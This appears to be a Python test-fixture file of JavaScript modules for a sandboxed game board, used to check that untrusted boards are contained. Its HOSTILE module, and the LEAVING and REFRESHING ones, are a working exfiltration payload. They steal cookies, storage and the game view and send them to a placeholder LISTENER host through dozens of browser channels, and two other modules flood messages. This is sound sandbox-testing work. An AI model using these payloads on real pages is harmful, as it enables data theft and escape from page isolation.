"""Boards as strangers bring them: one that plays, and others that try whatever they can to harm."""

from typing import Final

# Draws the view with a few elements, offers the moves, and makes one when it is pressed.
FRIENDLY: Final = """
export default function board(root, { pick, commit }) {
    return ({ view, legend, names, seat, legal, labels, picked, language, theme }) => {
        root.replaceChildren();
        const title = document.createElement("h2");
        title.textContent = `${names[seat] ?? "?"} ${language} ${theme}`;
        const card = document.createElement("p");
        card.id = "card";
        card.textContent = legend.cards[view.cards[seat]] ?? "";
        root.append(title, card);
        for (const [at, move] of legal.entries()) {
            const button = document.createElement("button");
            button.textContent = labels[at];
            button.dataset.own = move;
            button.onclick = () => (move === "keep" ? pick(move) : commit(move));
            if (move === picked) button.className = "picked";
            root.append(button);
        }
        root.style.height = "700px";
    };
}
"""

SILENT: Final = "export default () => new Promise(() => {});"
BROKEN: Final = "export default function ( { this is no module"
THROWING: Final = "export default () => () => { throw new Error('no'); };"
WITHOUT: Final = "export const board = 1;"

# Tries every way out that a page knows, with what it was told; LISTENER is the address of one who listens.
HOSTILE: Final = """
const OUT = "LISTENER";
const attempts = {};
const attempt = async (name, what) => {
    try {
        attempts[name] = String(await what()).slice(0, 80);
    } catch (error) {
        attempts[name] = "! " + error.name;
    }
};
const element = (tag, attributes) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
    return made;
};
async function attack(view) {
    const secret = encodeURIComponent(JSON.stringify(view));
    const to = (way) => `${OUT}/${way}?${secret}`;
    await attempt("storage", () => localStorage.length);
    await attempt("session", () => sessionStorage.length);
    await attempt("cookie", () => document.cookie);
    await attempt("database", () => indexedDB.open("x"));
    await attempt("caches", () => caches.keys());
    await attempt("parent", () => parent.document.body.innerHTML);
    await attempt("parent-location", () => parent.location.href);
    await attempt("frame-element", () => frameElement.outerHTML);
    await attempt("worker", () => new Worker(URL.createObjectURL(new Blob([`fetch("${to("worker")}")`]))));
    await attempt("shared-worker", () => new SharedWorker(to("shared-worker")));
    await attempt("service-worker", () => navigator.serviceWorker.register(to("service-worker")));
    await attempt("eval", () => (0, eval)("1"));
    await attempt("fetch", () => fetch(to("fetch"), { mode: "no-cors" }));
    await attempt("own", () => fetch(new URL("/api/games", document.baseURI)));
    await attempt("keepalive", () => fetch(to("keepalive"), { mode: "no-cors", keepalive: true }));
    await attempt("xhr", () => new Promise((done, fail) => {
        const request = new XMLHttpRequest();
        request.onload = done;
        request.onerror = () => fail(new Error("blocked"));
        request.open("GET", to("xhr"));
        request.send();
    }));
    await attempt("beacon", () => navigator.sendBeacon(to("beacon"), secret));
    await attempt("socket", () => new WebSocket(to("socket").replace("http", "ws")));
    await attempt("events", () => new EventSource(to("events")));
    await attempt("transport", () => new WebTransport(to("transport")));
    await attempt("peer", () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: OUT.replace("http://", "stun:") }] });
        peer.createDataChannel("x");
        return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
    await attempt("import", () => import(to("import")));
    await attempt("open", () => window.open(to("open")) ?? "null");
    await attempt("top", () => (top.location = to("top")));
    await attempt("parent-go", () => (parent.location = to("parent-go")));
    await attempt("history", () => history.go(-1));
    await attempt("print", () => print());
    await attempt("form", () => element("form", { action: to("form"), method: "post", target: "_top" }).submit());
    for (const [tag, attributes] of [
        ["img", { src: to("img") }],
        ["img", { srcset: to("srcset") }],
        ["script", { src: to("script") }],
        ["iframe", { src: to("iframe") }],
        ["iframe", { srcdoc: `<img src='${to("srcdoc")}'><script>fetch('${to("srcdoc-script")}')</script>` }],
        ["iframe", { srcdoc: `<meta http-equiv=refresh content='0;url=${to("srcdoc-refresh")}'>` }],
        ["object", { data: to("object") }],
        ["embed", { src: to("embed") }],
        ["video", { src: to("video"), autoplay: "" }],
        ["audio", { src: to("audio"), autoplay: "" }],
        ["link", { rel: "stylesheet", href: to("link") }],
        ["link", { rel: "prefetch", href: to("prefetch") }],
        ["link", { rel: "preload", as: "image", href: to("preload") }],
        ["link", { rel: "modulepreload", href: to("modulepreload") }],
        ["link", { rel: "prerender", href: to("prerender") }],
        ["link", { rel: "dns-prefetch", href: OUT }],
        ["link", { rel: "manifest", href: to("manifest") }],
        ["link", { rel: "icon", href: to("icon") }],
        ["input", { type: "image", src: to("input") }],
    ]) element(tag, attributes);
    const style = element("style", {});
    style.textContent = `@import "${to("css-import")}"; @font-face { font-family: x; src: url("${to("font")}"); }
        body { background: url("${to("background")}"); font-family: x; }`;
    const rules = element("script", { type: "speculationrules" });
    rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [to("speculation")] }] });
    await attempt("ping", () => {
        const link = element("a", { href: "#x", ping: to("ping"), download: "x" });
        link.click();
    });
    await attempt("download", () => element("a", { href: "data:text/plain,x", download: "x" }).click());
    parent.postMessage({ type: "commit", move: view.legal?.[0] ?? "keep" }, "*");
}
export default function board(root, { pick, commit }) {
    let isDone = false;
    return async (moment) => {
        if (isDone) return;
        isDone = true;
        await attack(moment);
        commit("gather");
        commit("no such move");
        pick({ toString: () => "keep" });
        commit(moment.legal[0]); // legal, but nobody has touched anything
        root.textContent = "";
        const told = document.createElement("pre");
        told.id = "attempts";
        told.textContent = JSON.stringify(attempts);
        const known = document.createElement("pre");
        known.id = "known";
        known.textContent = JSON.stringify({ moment, name, referrer: document.referrer, at: document.baseURI });
        root.append(told, known);
    };
}
"""

# Leaves the frame's document with what it was told.
LEAVING: Final = """
export default () => ({ view }) => {
    location.href = "LISTENER/leaving?" + encodeURIComponent(JSON.stringify(view));
};
"""
REFRESHING: Final = """
export default () => (moment) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0;url=LISTENER/refreshing?" + encodeURIComponent(JSON.stringify(moment.view));
    document.head.append(meta);
};
"""
PRECONNECTING: Final = """
export default () => () => {
    const link = document.createElement("link");
    link.rel = "preconnect";
    link.href = "LISTENER";
    document.head.append(link);
};
"""
FLOODING: Final = """
export default (root, { pick }) => ({ legal }) => {
    const flood = () => { for (let n = 0; n < 200; n++) pick(legal[0] ?? "x"); setTimeout(flood, 5); };
    flood();
};
"""
SHOUTING: Final = """
export default () => () => {
    const shout = () => parent.postMessage("x".repeat(1000), "*");
    const flood = () => { for (let n = 0; n < 200; n++) shout(); setTimeout(flood, 5); };
    flood();
};
"""
